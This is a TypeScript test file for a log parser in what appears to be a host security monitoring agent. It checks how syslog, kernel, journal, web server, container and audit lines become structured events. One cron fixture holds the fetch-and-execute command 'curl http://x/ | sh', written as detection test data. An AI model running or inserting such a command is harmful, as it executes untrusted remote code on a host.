import {
  type AgentId,
  type Event,
  eventSchema,
  type JournalRecord,
  type KernelLogRecord,
  type LineRecord,
} from '@vedette/model'
import { describe, expect, test } from 'vitest'
import { EventFactory } from '../../event-factory.ts'
import { redactor } from '../../redaction/redact.ts'
import { LineSource } from './line-source.ts'

const READ_AT = Date.UTC(2026, 10, 20, 12)

function eventsOf(...records: readonly (LineRecord | JournalRecord | KernelLogRecord)[]): Event[] {
  const clock = { now: () => READ_AT, monotonic: () => 0 }
  const source = new LineSource(
    new EventFactory({ uid: 'agent-1' as AgentId, hostname: 'web-1' }, '00000000000000aa', clock),
    redactor,
  )
  const events: Event[] = []
  for (const record of records) source.normalise(record, events)
  for (const event of events) expect(eventSchema.parse(event)).toEqual(event)
  return events
}

const line = (text: string, path = '/var/log/syslog'): LineRecord => ({
  source: 'line',
  timeMs: READ_AT,
  path,
  text,
  truncated: false,
})
const syslog = (text: string) => line(`2026-11-20T10:00:00.5+00:00 web-1 ${text}`)

describe('lines become Events', () => {
  test('changes of accounts', () => {
    expect(eventsOf(syslog("usermod[812]: add 'bob' to group 'sudo'"))).toMatchObject([
      {
        kind: 'account',
        class_uid: 3001,
        activity: 'attach_group',
        status: 'success',
        user: { uid: '', name: 'bob' },
        group: { name: 'sudo' },
        service: 'usermod',
        pid: 812,
      },
    ])
  })

  test("the kernel's own log: what the kernel says, and what programs write there, whatever they claim", () => {
    const message = (text: string, facility = 0): KernelLogRecord => ({
      source: 'kmsg',
      timeMs: READ_AT - 5000,
      sequence: 7,
      priority: 6,
      facility,
      text,
      keys: { SUBSYSTEM: 'net' },
    })
    const events = eventsOf(
      message('lo: entered promiscuous mode'),
      message('something else'),
      message('kernel: lo: entered promiscuous mode', 1),
      message('lo: entered promiscuous mode', 1),
      message('systemd[1]: x.service: \u001B[31m', 3),
      message('Failed password for root', 1),
    )
    const parts = { SUBSYSTEM: 'net', priority: 6, facility: 0, sequence: 7 }
    expect(events).toMatchObject([
      {
        kind: 'log',
        time: READ_AT - 5000,
        metadata: { log_provider: 'kmsg' },
        path: '/dev/kmsg',
        service: 'kernel',
        event_code: 'promiscuous_on',
        unmapped: { device: 'lo' },
      },
      { service: 'kernel', unmapped: parts, log_source: { product: 'linux', service: 'syslog' } },
      { service: 'not-kernel', message: 'lo: entered promiscuous mode', unmapped: { facility: 1 } },
      { service: 'lo', message: 'entered promiscuous mode' },
      { service: 'systemd', pid: 1, message: 'x.service: \u001B[31m' },
      { kind: 'log', service: 'kmsg' },
    ])
    expect(events.slice(2).filter((event) => event.kind === 'log' && event.event_code !== undefined)).toEqual(
      [],
    )
  })

  test('cron, systemd and the kernel say what happened, with its parts', () => {
    const events = eventsOf(
      syslog('CRON[99]: (root) CMD (curl http://x/ | sh)'),
      syslog("systemd[1]: nginx.service: Failed with result 'exit-code'."),
      syslog('kernel: [ 12.5] rk: loading out-of-tree module taints kernel.'),
    )
    expect(events).toMatchObject([
      {
        kind: 'log',
        service: 'CRON',
        event_code: 'cron_command',
        unmapped: { user: 'root', command: 'curl http://x/ | sh' },
        log_source: { product: 'linux', service: 'cron' },
      },
      { event_code: 'unit_failed', unmapped: { unit: 'nginx.service' }, log_source: { service: 'syslog' } },
      { event_code: 'module_tainted', unmapped: { module: 'rk' } },
    ])
  })

  test('access and error logs of web servers carry the fields that rules name, with their own time', () => {
    const [access, error] = eventsOf(
      line(
        '203.0.113.7 - - [20/Nov/2026:10:00:00 +0000] "GET /a?password=hunter2 HTTP/1.1" 404 12 "-" "sqlmap/1"',
        '/var/log/nginx/access.log',
      ),
      line(
        '2026/11/20 10:00:00 [error] 1#1: *2 open() failed, client: 203.0.113.7, server: x',
        '/var/log/nginx/error.log',
      ),
    )
    expect(access).toMatchObject({
      kind: 'log',
      time: Date.UTC(2026, 10, 20, 10),
      service: 'access',
      path: '/var/log/nginx/access.log',
      log_source: { category: 'webserver', service: 'access' },
      unmapped: { 'c-ip': '203.0.113.7', 'sc-status': '404', 'cs-user-agent': 'sqlmap/1' },
    })
    expect(JSON.stringify(access)).not.toContain('hunter2')
    expect(error).toMatchObject({ service: 'nginx', unmapped: { level: 'error', 'c-ip': '203.0.113.7' } })
  })

  test('logs of containers: the message of the program, and which container it was', () => {
    const id = 'ab'.repeat(32)
    const events = eventsOf(
      line(
        JSON.stringify({
          log: 'sshd[1]: Failed password for root\n',
          stream: 'stderr',
          time: '2026-11-20T10:00:00.25Z',
        }),
        `/var/lib/docker/containers/${id}/${id}-json.log`,
      ),
      line('2026-11-20T10:00:01Z stdout F ready', `/var/log/containers/web_default_nginx-${id}.log`),
    )
    expect(events).toMatchObject([
      {
        kind: 'log',
        time: Date.UTC(2026, 10, 20, 10) + 250,
        message: 'sshd[1]: Failed password for root',
        container: { uid: id, runtime: 'docker' },
        unmapped: { stream: 'stderr' },
      },
      { message: 'ready', container: { uid: id, runtime: 'cri' }, unmapped: { stream: 'stdout' } },
    ])
  })

  test('records of the audit system', () => {
    expect(
      eventsOf(line('type=USER_LOGIN msg=audit(1795168800.125:42): pid=1 acct="root" res=failed')),
    ).toMatchObject([
      {
        kind: 'log',
        time: 1_795_168_800_125,
        log_source: { product: 'linux', service: 'auditd' },
        unmapped: { type: 'USER_LOGIN', acct: 'root' },
      },
    ])
  })

  test('entries of the journal are read as the lines that they are', () => {
    const entry = (fields: Record<string, string>): JournalRecord => ({
      source: 'journal',
      timeMs: READ_AT,
      path: '/var/log/journal/x/system.journal',
      fields: { _HOSTNAME: 'web-1', _PID: '812', ...fields },
    })
    expect(
      eventsOf(
        entry({
          SYSLOG_IDENTIFIER: 'sshd',
          MESSAGE: 'Accepted password for anna from 192.0.2.1 port 50111 ssh2',
        }),
        entry({
          SYSLOG_IDENTIFIER: 'kernel',
          _TRANSPORT: 'kernel',
          MESSAGE: 'eth0: entered promiscuous mode',
        }),
        entry({
          SYSLOG_IDENTIFIER: 'kernel',
          _TRANSPORT: 'syslog',
          MESSAGE: 'eth0: entered promiscuous mode',
        }),
      ),
    ).toMatchObject([
      {
        kind: 'authentication',
        status: 'success',
        session: { uid: `sshd-812-${READ_AT}` },
        metadata: { log_provider: 'journal' },
      },
      { kind: 'log', event_code: 'promiscuous_on' },
      { kind: 'log', service: 'not-kernel' },
    ])
  })

  test('sessions: where they began, and how long they were', () => {
    const at = (time: string, message: string) => line(`2026-11-20T${time}+00:00 web-1 sshd[7]: ${message}`)
    const [login, , end] = eventsOf(
      at('10:00:00', 'Accepted password for anna from 192.0.2.1 port 50111 ssh2'),
      at('10:00:00', 'pam_unix(sshd:session): session opened for user anna(uid=1000) by (uid=0)'),
      at('10:12:46', 'pam_unix(sshd:session): session closed for user anna'),
    )
    expect(login).toMatchObject({ activity: 'logon', session: { created_time: Date.UTC(2026, 10, 20, 10) } })
    expect(end).toMatchObject({ activity: 'logoff', duration: 766_000 })
  })

  test('a line of one kind of character is an Event that a store takes, however long', () => {
    const long = '\u0001'.repeat(60_000)
    const [event] = eventsOf(line(`192.0.2.1 - - [20/Nov/2026:10:00:00 +0000] "GET /${long} HTTP/1.1" 200 1`))
    expect(event).toMatchObject({ kind: 'log', service: 'access' })
  })
})
